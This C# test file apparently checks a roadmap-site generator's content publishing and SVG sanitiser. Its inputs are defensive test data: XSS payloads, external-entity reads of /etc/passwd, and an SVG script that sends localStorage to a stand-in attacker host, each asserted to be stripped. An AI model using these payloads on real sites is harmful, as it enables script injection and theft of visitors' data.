using RoadmapSite.Configuration;
using RoadmapSite.Parsing;
using RoadmapSite.Tests.Support;

namespace RoadmapSite.Tests.Site;

/// <summary>
/// Content-folder files run with the site's origin, where a script reads every visitor's progress: inert types are
/// published, SVG sanitised, HTML and JavaScript only when site.yml lists them.
/// </summary>
public sealed class ContentFilePublishingTests
{
    private const string Svg = "http://www.w3.org/2000/svg";

    [Fact]
    public async Task Given_html_and_js_in_the_content_folder_when_built_then_they_are_not_published_and_links_to_them_are_reported()
    {
        using var temp = new TempFolder();
        temp.Write("content/roadmap.md", "# R\n\n## S\n\n- [ ] See [the diagram](diagram.html) and [the script](tool.js)\n- [ ] ![chart](chart.png)\n");
        temp.Write("content/diagram.html", "<script>alert(localStorage)</script>");
        temp.Write("content/tool.js", "alert(localStorage)");
        temp.Write("content/chart.png", "png");

        var result = await SiteBuildRunner.BuildAsync(temp.Combine("content"), temp.Combine("site"));

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        Assert.False(File.Exists(temp.Combine("site", "diagram.html")));
        Assert.False(File.Exists(temp.Combine("site", "tool.js")));
        Assert.True(File.Exists(temp.Combine("site", "chart.png")));
        Assert.Contains(result.Warnings, w => w.File!.EndsWith("diagram.html", StringComparison.Ordinal) && w.Message.Contains("publish_active_files", StringComparison.Ordinal));
        Assert.Contains(result.Warnings, w => w.File!.EndsWith("tool.js", StringComparison.Ordinal) && w.Message.Contains("a .js file", StringComparison.Ordinal));
        Assert.Contains(result.Warnings, w => w.Message.StartsWith("link 'diagram.html' points to nothing on the site", StringComparison.Ordinal) && w.Line == 5);
        var page = SiteBuildRunner.Page(temp.Combine("site"), "sections/s/index.html");
        Assert.DoesNotContain(page.QuerySelectorAll("a[href]"), a => a.GetAttribute("href")!.Contains("diagram.html", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Given_html_listed_in_publish_active_files_when_built_then_it_is_published_as_is_with_a_warning()
    {
        using var temp = new TempFolder();
        temp.Write("content/roadmap.md", "# R\n\n## S\n\n- [ ] See [the diagram](diagrams/flow.html)\n");
        temp.Write("content/diagrams/flow.html", "<p>flow</p><script src=flow.js></script>");
        temp.Write("content/diagrams/flow.js", "console.log(1)");
        temp.Write("content/site.yml", "publish_active_files: [./diagrams/flow.html, diagrams/../diagrams/flow.js]\n");

        var result = await SiteBuildRunner.BuildAsync(temp.Combine("content"), temp.Combine("site"), "/r/");

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        Assert.Equal("<p>flow</p><script src=flow.js></script>", File.ReadAllText(temp.Combine("site", "diagrams", "flow.html")));
        Assert.True(File.Exists(temp.Combine("site", "diagrams", "flow.js")));
        Assert.Equal(2, result.Warnings.Count(w => w.Message.StartsWith("published as is", StringComparison.Ordinal)));
        var page = SiteBuildRunner.Page(temp.Combine("site"), "sections/s/index.html");
        Assert.Contains(page.QuerySelectorAll("a[href]"), a => a.GetAttribute("href") == "/r/diagrams/flow.html");
    }

    [Fact]
    public void Given_publish_active_files_naming_a_missing_or_outside_file_when_loaded_then_an_error_points_at_it()
    {
        using var temp = new TempFolder();
        temp.Write("content/roadmap.md", "# R\n\n## S\n\n- [ ] A\n");
        temp.Write("content/site.yml", "publish_active_files:\n  - nope.html\n  - ../secret.js\n");

        var content = ContentFolder.Load(temp.Combine("content"));

        Assert.Equal(
            [(DiagnosticCodes.ContentFiles, 2, 5, true), (DiagnosticCodes.ContentFiles, 3, 5, true)],
            content.Diagnostics.Select(d => (d.Code, d.Location.Line, d.Location.Column, d.Message.StartsWith("publish_active_files:", StringComparison.Ordinal))));
    }

    [Theory]
    [InlineData("<script>alert(1)</script>", "<script>")]
    [InlineData("<script href=\"https://evil.example/x.js\"/>", "<script>")]
    [InlineData("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>", "<script>")]
    [InlineData("<rect width=\"1\" height=\"1\" onclick=\"alert(1)\"/>", "onclick")]
    [InlineData("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(1)\"/></div></foreignObject>", "<foreignObject>")]
    [InlineData("<a href=\"javascript:alert(1)\"><text>x</text></a>", "href=")]
    [InlineData("<a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"https://evil.example/\"><text>x</text></a>", "href=")]
    [InlineData("<use href=\"https://evil.example/sprite.svg#icon\"/>", "href=")]
    [InlineData("<image href=\"https://evil.example/track.png\"/>", "href=")]
    [InlineData("<rect fill=\"url(https://evil.example/p.svg#g)\"/>", "fill=")]
    [InlineData("<rect style=\"fill: url(//evil.example/p.svg#g)\"/>", "style=")]
    [InlineData("<style>@import 'https://evil.example/x.css';</style>", "<style>")]
    [InlineData("<style>rect { background: u\\72l(https://evil.example/) }</style>", "<style>")]
    [InlineData("<a href=\"#ok\"><animate attributeName=\"href\" to=\"javascript:alert(1)\"/><set attributeName=\"onclick\" to=\"alert(1)\"/></a>", "<animate>")]
    public void Given_an_svg_that_could_run_or_load_something_when_sanitised_then_that_part_is_gone(string inner, string reported)
    {
        var svg = $"<svg xmlns=\"{Svg}\" onload=\"alert(1)\"><circle r=\"4\"/>{inner}</svg>";

        var (clean, removed) = RoadmapSite.Site.SvgSanitizer.Sanitize(System.Text.Encoding.UTF8.GetBytes(svg))!.Value;

        Assert.Contains(removed, r => r.StartsWith(reported, StringComparison.Ordinal));
        Assert.Contains("onload", removed);
        foreach (var dangerous in new[] { "script", "alert", "javascript:", "evil.example", "foreignObject", "onerror", "onclick", "<animate", "<set" })
        {
            Assert.DoesNotContain(dangerous, clean, StringComparison.OrdinalIgnoreCase);
        }

        Assert.Contains("<circle r=\"4\" />", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Given_a_drawing_with_gradients_local_links_and_an_embedded_image_when_sanitised_then_it_is_kept_whole()
    {
        var svg = $$"""
            <?xml version="1.0" encoding="UTF-8"?>
            <svg xmlns="{{Svg}}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">
              <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient><symbol id="s"><rect width="1" height="1"/></symbol></defs>
              <style>rect { fill: url(#g); }</style>
              <rect fill="url(#g)" width="5" height="5" style="stroke: url('#g')"/>
              <use xlink:href="#s"/><a href="#s"><text xml:space="preserve">A &amp; B</text></a>
              <image href="data:image/png;base64,iVBORw0KGgo="/>
            </svg>
            """;

        var (clean, removed) = RoadmapSite.Site.SvgSanitizer.Sanitize(System.Text.Encoding.UTF8.GetBytes(svg))!.Value;

        Assert.Empty(removed);
        foreach (var kept in new[] { "<linearGradient id=\"g\">", "<style>rect { fill: url(#g); }</style>", "fill=\"url(#g)\"", "xlink:href=\"#s\"", "A &amp; B", "data:image/png;base64", "viewBox=\"0 0 10 10\"" })
        {
            Assert.Contains(kept, clean, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Given_an_svg_with_an_external_entity_when_sanitised_then_the_file_it_names_is_never_read()
    {
        var svg = $"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg xmlns=\"{Svg}\"><text>&x;</text></svg>";

        var result = RoadmapSite.Site.SvgSanitizer.Sanitize(System.Text.Encoding.UTF8.GetBytes(svg));

        Assert.DoesNotContain("root:", result?.Svg ?? "", StringComparison.Ordinal);
    }

    [Fact]
    public async Task Given_svgs_in_the_content_folder_when_built_then_they_are_published_sanitised_and_a_broken_one_is_skipped()
    {
        using var temp = new TempFolder();
        temp.Write("content/roadmap.md", "# R\n\n## S\n\n- [ ] ![diagram](diagram.svg)\n");
        temp.Write("content/diagram.svg", $"<svg xmlns=\"{Svg}\"><script>fetch('//evil.example/?'+localStorage)</script><circle r=\"4\" onload=\"alert(1)\"/></svg>");
        temp.Write("content/broken.svg", "<svg><script>alert(1)</script>");
        temp.Write("content/page.svg", "<html><script>alert(1)</script></html>");

        var result = await SiteBuildRunner.BuildAsync(temp.Combine("content"), temp.Combine("site"));

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        var published = File.ReadAllText(temp.Combine("site", "diagram.svg"));
        Assert.DoesNotContain("script", published, StringComparison.Ordinal);
        Assert.DoesNotContain("onload", published, StringComparison.Ordinal);
        Assert.Contains("<circle r=\"4\" />", published, StringComparison.Ordinal);
        Assert.Contains(result.Warnings, w => w.File!.EndsWith("diagram.svg", StringComparison.Ordinal) && w.Message.Contains("<script>", StringComparison.Ordinal));
        Assert.False(File.Exists(temp.Combine("site", "broken.svg")));
        Assert.False(File.Exists(temp.Combine("site", "page.svg")));
        Assert.Contains(result.Warnings, w => w.File!.EndsWith("broken.svg", StringComparison.Ordinal) && w.Message.Contains("not an SVG document", StringComparison.Ordinal));
    }
}
